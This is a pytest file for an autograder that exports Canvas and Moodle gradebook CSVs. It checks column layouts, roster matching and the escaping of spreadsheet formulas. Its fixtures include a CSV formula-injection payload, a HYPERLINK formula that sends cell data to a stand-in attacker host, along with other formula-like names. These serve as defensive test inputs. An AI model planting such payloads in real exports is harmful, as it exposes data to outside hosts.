"""LMS export: Canvas's and Moodle's gradebook import CSV, read back as those platforms read it."""

from __future__ import annotations

import csv
import io
import re

import pytest
from conftest import EXERCISES

from autograder.cohort import report
from autograder.escape import FORMULA_STARTS
from autograder.term import lms
from packlab.course import cli

A1, A2 = (exercise.name for exercise in EXERCISES[:2])  # 01-total-tokens, 02-greedy-pack
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ROWS = [  # what `packlab grade` writes, escaping included (report.write_grades)
    {"student": "ada", "assignment": A1, "score": 5, "max_score": 5,
     "status": "graded", "reason": ""},
    {"student": "ada", "assignment": A2, "score": 7, "max_score": 10,
     "status": "graded", "reason": ""},
    {"student": "bo", "assignment": A1, "score": 0, "max_score": 5,
     "status": "not graded", "reason": "no submission"},
    {"student": "bo", "assignment": A2, "score": 10, "max_score": 10,
     "status": "graded", "reason": ""},
    {"student": HOSTILE, "assignment": A1, "score": 3, "max_score": 5,
     "status": "graded", "reason": ""},
    {"student": "zoe", "assignment": A2, "score": 4, "max_score": 10,
     "status": "graded", "reason": ""},
    {"student": "ghost", "assignment": A1, "score": 5, "max_score": 5,
     "status": "graded", "reason": ""},
]
ROSTER = [  # id, name, email
    ["ada", "Lovelace, Ada", "ada@uni.example"],
    ["bo", "-Bo @Smith", "bo@uni.example"],
    [HOSTILE, "+SUM(A1:A9)", "hostile@uni.example"],
    ["zoe", "Zoë Ñúñez 山田", "zoe@uni.example"],
    ["cy", "Cy Young", "cy@uni.example"],  # on the roster, no grades
]
# canvas-lms app/models/assignment.rb, Assignment.title_and_id: a title "Name (123)".
CANVAS_TITLE_AND_ID = re.compile(r"\A(.*)\s\((\d+)\)\Z")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """OUT with a grades.csv, and a roster file."""
    root = tmp_path_factory.mktemp("lms")
    report.write_grades(root / "out", ROWS)
    roster = root / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["id", "name", "email"], *ROSTER])
    return root / "out", roster


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def no_formulas(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_canvas_file_has_the_gradebook_import_layout(graded):
    out, roster = graded
    result = lms.export(out, roster, "canvas", {A2: "1234"})
    table = rows(result.text)
    header, points, *students = table
    # The header Canvas accepts (gradebook_importer.rb: "Student", "ID", SIS User ID and SIS
    # Login ID, then "Section" as the last student column), then one column per assignment.
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", A1,
                      f"{A2} (1234)"]
    assert CANVAS_TITLE_AND_ID.match(header[6]).groups() == (A2, "1234")
    assert not CANVAS_TITLE_AND_ID.match(header[5])  # matched by its title (or created)
    assert "Points Possible" in points[0] and points[5:] == ["5", "10"]
    by_login = {row[3]: row for row in students}
    assert len(students) == len(ROSTER) and all(len(row) == 7 for row in table)
    assert by_login["ada@uni.example"][0] == "Lovelace, Ada"
    assert by_login["ada@uni.example"][5:] == ["5", "7"]
    assert by_login["bo@uni.example"][5:] == ["", "10"]  # not graded: left empty, and listed
    assert by_login["bo@uni.example"][0] == "'-Bo @Smith"
    assert by_login["hostile@uni.example"][0] == "'+SUM(A1:A9)"
    assert by_login["hostile@uni.example"][5:] == ["3", ""]  # matched through its escaped id
    assert by_login["zoe@uni.example"][0] == "Zoë Ñúñez 山田"
    assert by_login["cy@uni.example"][5:] == ["", ""]
    no_formulas(table)
    assert result.grades == 5
    assert result.lost == ["ghost is not on the roster: their 1 row(s) of grades.csv are left "
                           "out"]
    assert any(n.startswith(f"bo / {A1}: left empty (not graded: no submission") for n in
               result.notes)
    assert any(n.startswith("cy is on the roster but has no grades") for n in result.notes)


def test_canvas_roster_columns_and_other_folders(tmp_path):
    report.write_grades(tmp_path / "out", [
        {"student": "ada", "assignment": A1, "score": 1, "max_score": 5, "status": "graded",
         "reason": ""},
        {"student": "ada", "assignment": "=evil()", "score": 0, "max_score": 0,
         "status": "not graded", "reason": "`=evil()` is not an assignment of this course"}])
    roster = tmp_path / "roster.csv"
    roster.write_text("ID,Name,Email,sis_user_id,sis_login_id,section\n"
                      "ada,Ada,ada@uni.example,S-001,alovelace,Sec 1\n", encoding="utf-8")
    result = lms.export(tmp_path / "out", roster, "canvas", {"99-nothing": "5"})
    header, points, ada = rows(result.text)
    assert header[5:] == [A1] and points[5:] == ["5"]  # a course assignment, no other folder
    assert ada == ["Ada", "", "S-001", "alovelace", "Sec 1", "1"]
    assert "'=evil(): not an assignment of this course, left out" in result.notes
    assert "--canvas-id 99-nothing: no such assignment in grades.csv, unused" in result.notes


def test_moodle_file_maps_every_row_by_email(graded, tmp_path):
    out, roster = graded
    with_blank = tmp_path / "roster.csv"
    with_blank.write_text(roster.read_text(encoding="utf-8") + "dee,Dee,\n", encoding="utf-8")
    report.write_grades(tmp_path / "out", [*ROWS, {
        "student": "dee", "assignment": A1, "score": 2, "max_score": 5,
        "status": "graded", "reason": ""}])
    result = lms.export(tmp_path / "out", with_blank, "moodle")
    header, *students = rows(result.text)
    assert header == ["Full name", "ID number", "Email address", A1, A2]
    # Moodle stops the whole import at a row whose user it cannot find: every row has an
    # email from the roster, written as is; there is no points-possible row.
    emails = [row[2] for row in students]
    assert emails == [r[2] for r in ROSTER]
    for row in students:
        for cell in row[3:]:  # a grade is a number or empty (Moodle: non-numeric is an error)
            assert cell == "" or float(cell) >= 0
    hostile = students[2]
    assert hostile[:2] == ["'+SUM(A1:A9)", "'" + HOSTILE] and hostile[3] == "3"
    assert students[3][0] == "Zoë Ñúñez 山田" and students[3][4] == "4"
    no_formulas([header, *students])
    assert any(line.startswith("dee has no email") for line in result.lost)
    assert any(line.startswith("ghost is not on the roster") for line in result.lost)


def test_roster_problems_are_clear(graded, tmp_path):
    out, _ = graded
    twice = tmp_path / "twice.csv"
    twice.write_text("id,name,email\nada,A,a@x\nada,B,b@x\n", encoding="utf-8")
    with pytest.raises(lms.InputError, match="same id more than once: ada"):
        lms.export(out, twice, "canvas")
    no_email = tmp_path / "columns.csv"
    no_email.write_text("id,name\nada,A\n", encoding="utf-8")
    with pytest.raises(lms.InputError, match="no column email"):
        lms.export(out, no_email, "moodle")
    with pytest.raises(lms.InputError, match="is a number"):
        lms.export(out, twice, "canvas", {A1: "abc"})


def test_export_command(graded, tmp_path, capsys):
    out, roster = graded
    target = tmp_path / "canvas.csv"
    code = cli.main(["export", str(out), "--roster", str(roster), "--lms", "canvas",
                     "--to", str(target)])
    printed = capsys.readouterr().out
    assert code == 1  # ghost's grade is not in the file, and the command says so
    assert "Left out: ghost is not on the roster" in printed
    assert rows(target.read_text(encoding="utf-8"))[0][0] == "Student"
    assert cli.main(["export", str(out), "--roster", str(roster), "--lms", "moodle",
                     "--to", str(target), "--canvas-id", "nonsense"]) == 2


def test_names_are_read_exactly_and_two_rows_for_one_cell_are_reported(tmp_path):
    """A grades.csv row for `ada` + a no-break space (as a hand-made grades.csv may hold it)
    or `02-greedy-pack` + a no-break space is not ada's nor 02's: nothing is stripped. Two
    rows for one student and assignment leave the cell empty, loudly."""
    out = tmp_path / "out"
    out.mkdir()
    table = [["student", "assignment", "score", "max_score", "status", "reason"],
            ["ada", A2, "5", "10", "graded", ""], ["ada\u00a0", A2, "0", "10", "graded", ""],
            [" ada", A2, "0", "10", "graded", ""], ["ada", A2 + "\u00a0", "0", "10", "graded", ""],
            ["bo", A2, "7", "10", "graded", ""], ["bo", A2, "2", "10", "graded", ""]]
    with (out / "grades.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(table)
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name,email\nada,Ada,ada@uni.example\nbo,Bo,bo@uni.example\n",
                      encoding="utf-8")
    result = lms.export(out, roster, "canvas")
    header, _, ada, bo = written = rows(result.text)
    assert header[5:] == [A2] and (ada[0], ada[5]) == ("Ada", "5") and (bo[0], bo[5]) == ("Bo", "")
    assert any(line.startswith(f"bo / {A2}: grades.csv has 2 rows for it") for line in result.lost)
    assert "ada\u00a0 is not on the roster: their 1 row(s) of grades.csv are left out" in \
        result.lost and " ada is not on the roster: their 1 row(s) of grades.csv are left " \
        "out" in result.lost
    assert f"{A2}\u00a0: not an assignment of this course, left out" in result.notes
    no_formulas(written)
